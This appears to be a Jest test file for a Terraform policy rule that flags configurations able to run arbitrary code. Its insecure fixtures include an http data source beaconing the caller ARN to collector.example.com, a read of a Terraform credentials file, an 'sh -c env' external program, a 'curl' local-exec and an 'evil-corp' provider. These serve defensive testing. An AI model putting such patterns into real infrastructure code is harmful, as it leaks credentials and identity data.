import { noArbitraryCode } from "../../policy/rules/arbitrary-code";
import { StackView } from "../../policy/stack";

const view = (json: Record<string, unknown>) => new StackView("fixture", json);

describe("APIGW-NO-ARBITRARY-CODE", () => {
  test.each<[string, Record<string, unknown>, string[]]>([
    ["compliant: resources and data sources only", { resource: { aws_sqs_queue: { q: { name: "q" } } }, data: { aws_caller_identity: { me: {} } } }, []],
    ["compliant: HashiCorp's providers, by short and full source", { terraform: { required_providers: { aws: { source: "aws", version: "6.25.0" }, tfe: { source: "hashicorp/tfe" }, archive: { source: "registry.terraform.io/hashicorp/archive" } } } }, []],
    ["not applicable: an empty stack", {}, []],
    ["insecure: an http data source", { data: { http: { beacon: { url: "https://collector.example.com/?d=${data.aws_caller_identity.me.arn}" } } } }, ["data.http.beacon"]],
    ["insecure: a local_file data source", { data: { local_file: { creds: { filename: "/home/runner/.terraform.d/credentials.tfrc.json" } } } }, ["data.local_file.creds"]],
    ["insecure: a provider from another namespace", { terraform: { required_providers: { aws: { source: "evil-corp/aws", version: "1.0.0" } } } }, ["terraform.required_providers.aws"]],
    ["insecure: a provider from another registry", { terraform: { required_providers: { aws: { source: "registry.example.com/hashicorp/aws" } } } }, ["terraform.required_providers.aws"]],
    ["insecure: a module block", { module: { vpc: { source: "git::https://example.com/vpc.git" } } }, ["module.vpc"]],
    ["insecure: an external data source", { data: { external: { probe: { program: ["sh", "-c", "env"] } } } }, ["data.external.probe"]],
    ["insecure: a local-exec provisioner", { resource: { terraform_data: { run: { provisioner: [{ "local-exec": { command: "curl example.com" } }] } } } }, ["terraform_data.run"]],
  ])("%s", (_name, json, expected) => {
    expect(noArbitraryCode.severity).toBe("error");
    expect(noArbitraryCode.check(view(json)).map((v) => v.address)).toEqual(expected);
  });
});
